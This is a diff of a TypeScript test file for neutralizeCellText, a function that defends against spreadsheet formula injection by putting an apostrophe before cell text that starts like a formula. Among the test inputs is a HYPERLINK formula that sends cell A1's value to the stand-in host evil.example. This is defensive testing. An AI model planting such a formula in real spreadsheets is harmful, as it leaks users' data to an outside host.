@@ -13,18 +13,17 @@ const reread = async (bytes: Buffer): Promise<ExcelJS.Workbook> => {
 };
 
 describe('XLSX cells', () => {
-  it.each([
-    ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', `'=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")`],
-    ['+84912345678', "'+84912345678"],
-    ['-2+3', "'-2+3"],
-    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
-    ['\t=1+1', "'\t=1+1"],
-    ['\r=1+1', "'\r=1+1"],
-    ['\u0001=1+1', "'=1+1"],
-    ['Nguyễn Văn An', 'Nguyễn Văn An'],
-    ['Nguye\u0302\u0303n', 'Nguyễn'],
-    ['a=b', 'a=b'],
-  ])('%j is written as %j', (given, written) => {
+  it.each(['=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")', '+84912345678', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'])(
+    '%j starts like a formula: written with an apostrophe before it', (given) => {
+      expect(neutralizeCellText(given)).toBe(`'${given}`);
+    },
+  );
+
+  it('drops a control character before the formula, then neutralizes it', () => {
+    expect(neutralizeCellText('\u0001=1+1')).toBe("'=1+1");
+  });
+
+  it.each([['Nguyễn Văn An', 'Nguyễn Văn An'], ['Nguye\u0302\u0303n', 'Nguyễn'], ['a=b', 'a=b']])('%j is written as %j', (given, written) => {
     expect(neutralizeCellText(given)).toBe(written);
   });
 
